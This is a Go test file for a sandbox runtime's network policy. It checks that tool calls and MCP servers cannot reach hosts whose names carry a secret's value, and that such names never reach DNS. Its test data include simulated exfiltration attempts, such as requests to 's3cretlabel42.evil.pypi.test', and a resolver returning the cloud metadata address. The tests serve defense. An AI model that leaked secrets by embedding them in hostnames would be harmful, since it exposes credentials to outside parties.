package runtime

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/chockhq/chock/eval/load"
)

// lookups is a resolver that answers the metadata address (which the
// address rule refuses, so nothing is dialled) and keeps each name asked.
type lookups struct {
	mu    sync.Mutex
	names []string
}

func (l *lookups) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	l.mu.Lock()
	l.names = append(l.names, host)
	l.mu.Unlock()
	return []netip.Addr{netip.MustParseAddr("169.254.169.254")}, nil
}

// TestServerHostHoldingASecret: a local server's connection to a host
// whose name holds a secret's value cannot be decided (the action is not
// asked of the policy), and that is a deny: it does not fall back to
// mcp.S.network's allow past a rule that refuses the host, and the name
// is never looked up (a lookup carries it out to DNS).
func TestServerHostHoldingASecret(t *testing.T) {
	policy := fmt.Sprintf(`.{
    .policy = .{
        .allow = .{ "mcp.helper.tool.*", "mcp.helper.network" },
        .rules = .{ .{ .action = "mcp.helper.host.com.example.*", .decision = .deny, .why = "not the helper's" } },
    },
    .secrets = .{ .{ .name = "TOKEN", .to = "mcp.helper.tool.get" } },
    .mcp_servers = .{ .{ .name = "helper", .command = %s } },
}`, helperCommand(t, "get"))
	res := &lookups{}
	f := newFixtureWith(t, policy, map[string]string{"TOKEN": "s3cretlabel42"}, nil, func(o *Options) { o.Resolver = res })
	if sts, err := f.s.StartServers(context.Background()); err != nil || !sts[0].Started || !sts[0].Network {
		t.Fatalf("%+v %v", sts, err)
	}
	r, err := f.s.Run(context.Background(), &Call{Tool: "mcp", MCP: &MCPRequest{Server: "helper", Tool: "get", Arguments: []byte(`{"url":"http://s3cretlabel42.example.com/"}`)}})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(r.Content, "403 ") || !strings.Contains(r.Content, "could not be made") {
		t.Errorf("a host holding a secret: %q", r.Content)
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	if len(res.names) > 0 {
		t.Errorf("looked up %q", res.names)
	}
}

// TestCallHostHoldingASecret: a call's connection to a host whose name
// holds a secret's value is not decided, and a .programs .connects
// declaration covering the host does not turn that into an allow past an
// org's deny of it (the declaration beats no org); the name is never
// looked up.
func TestCallHostHoldingASecret(t *testing.T) {
	policy := `.{
    .policy = .{ .allow = .{ "exec.path.python3" } },
    .secrets = .{ .{ .name = "TOKEN", .to = "exec.path.true" } },
    .programs = .{ .{ .name = "python3", .connects = .{"net.connect.test.pypi.*"} } },
}`
	p, ds, err := load.FromSources(context.Background(), load.Input{Configs: []load.Source{{Name: "chock.zon", Data: []byte(policy)}},
		Orgs: []load.Source{{Name: "org.zon", Data: []byte(`.{ .name = "acme", .policy = .{ .deny = .{ "net.connect.test.pypi.evil.*" } } }`)}}, Unlinted: true})
	if err != nil {
		t.Fatalf("%v\n%v", err, ds)
	}
	res := &lookups{}
	f := newFixtureWith(t, policy, map[string]string{"TOKEN": "s3cretlabel42"}, nil, func(o *Options) {
		o.Engine, o.Config, o.Resolver = p.Engine, p.Config, res
		o.BaseEnv = []string{"PATH=/usr/bin:/bin", "HOME=/nonexistent"}
	})
	get := func(host string) *Result {
		r, err := f.s.Run(context.Background(), &Call{Tool: "exec", Exec: &ExecRequest{Argv: []string{"python3", "-c", `import sys, urllib.request, urllib.error
try:
    print(urllib.request.urlopen(sys.argv[1], timeout=10).read().decode(), end="")
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode(), end=""); sys.exit(3)`, "http://" + host + "/"}}})
		if err != nil {
			t.Fatal(err)
		}
		return r
	}
	// The org's deny holds for a host holding no secret.
	if r := get("x.evil.pypi.test"); !strings.Contains(r.Stdout, "403 refused by chock: net.connect.test.pypi.evil.x") {
		t.Fatalf("the org's deny: %+v", r)
	}
	r := get("s3cretlabel42.evil.pypi.test")
	if !strings.HasPrefix(r.Stdout, "403 ") || !strings.Contains(r.Stdout, "no policy could decide it") {
		t.Errorf("a host holding a secret: %q %q", r.Stdout, r.Stderr)
	}
	res.mu.Lock()
	defer res.mu.Unlock()
	if len(res.names) > 0 {
		t.Errorf("looked up %q", res.names)
	}
}
